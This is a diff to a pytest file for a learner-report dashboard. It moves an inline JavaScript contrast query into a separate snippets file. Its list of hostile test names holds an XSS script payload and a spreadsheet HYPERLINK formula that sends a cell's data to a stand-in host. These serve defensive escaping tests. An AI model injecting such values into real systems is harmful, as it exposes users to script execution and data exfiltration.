@@ -17,10 +17,15 @@ import pytest
 from engine.core import export, progress
 from engine.report import report
 from engine.core.registry import all_exercises, all_questions
+from tools.browser import page_snippets
 
 ROOT = Path(__file__).resolve().parents[1]
 LEARNERS = 200
 SERIOUS = ("serious", "critical")
+
+# The JavaScript these tests evaluate in the page: tests/test_report_dashboard.js, one snippet per name.
+SNIPPETS = page_snippets(Path(__file__).with_suffix(".js"))
+
 HOSTILE_NAMES = [
     '<img src=x onerror="alert(1)"><script>alert(2)</script>',
     ';=HYPERLINK(CHAR(104)&"ttp://example.invalid/?"&A3,"see")',
@@ -144,9 +149,7 @@ def test_the_dashboard_renders_in_chromium_with_no_serious_axe_violation(dashboa
     violations = axe_run(page, {"include": [["body"]]}, {"rules": {"color-contrast": {"enabled": False}}})
     violations += axe_run(page, {"include": [["body"]], "exclude": [["table.heat tbody"]]},
                           {"runOnly": {"type": "rule", "values": ["color-contrast"]}})
-    pairs = page.evaluate("""() => [...new Set([...document.querySelectorAll(
-        '.legend .cell, table.heat tbody td[class^="s-"]')].map(el => {
-            const s = getComputedStyle(el); return s.color + '|' + s.backgroundColor; }))]""")
+    pairs = page.evaluate(SNIPPETS["CELL_COLOURS"])
     assert len(pairs) == len(dashboard_module.CELLS)
     for pair in pairs:
         assert contrast(*pair.split("|")) >= 4.5, pair
